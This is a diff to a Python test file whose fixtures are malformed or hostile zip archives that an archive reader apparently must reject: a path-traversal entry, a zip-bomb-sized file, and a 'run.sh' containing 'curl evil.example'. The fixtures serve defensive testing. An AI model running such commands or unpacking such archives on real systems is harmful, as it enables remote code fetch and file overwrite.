@@ -79,10 +79,15 @@ def zip_by(method: int, damage_at: int) -> bytes:
     return bytes(data)
 
 
+def beside_report(name: str, content: bytes) -> bytes:
+    """A zip of a report that could be used, and this."""
+    return zip_of({"latest.json": json.dumps(make_report()), name: content})
+
+
 UNUSABLE: dict[str, Callable[[], bytes]] = {
-    "a path out of the folder": lambda: zip_of({"../latest.json": "{}"}),
-    "another file": lambda: zip_of({"latest.json": "{}", "run.sh": "curl evil.example"}),
-    "a bomb": lambda: zip_of({"latest.json": b"0" * (16 * 1024 * 1024 + 1)}),
+    "a path out of the folder": lambda: beside_report("../x.json", b"{}"),
+    "another file": lambda: beside_report("run.sh", b"curl evil.example"),
+    "a bomb": lambda: beside_report("comment.md", b"0" * (16 * 1024 * 1024 + 1)),
     "more than is downloaded": lambda: zip_of({"latest.json": os.urandom(MAX_ZIP_BYTES + 1)}),
     "no zip": lambda: b"PK",
     "a damaged stream": lambda: zip_by(zipfile.ZIP_DEFLATED, 0),
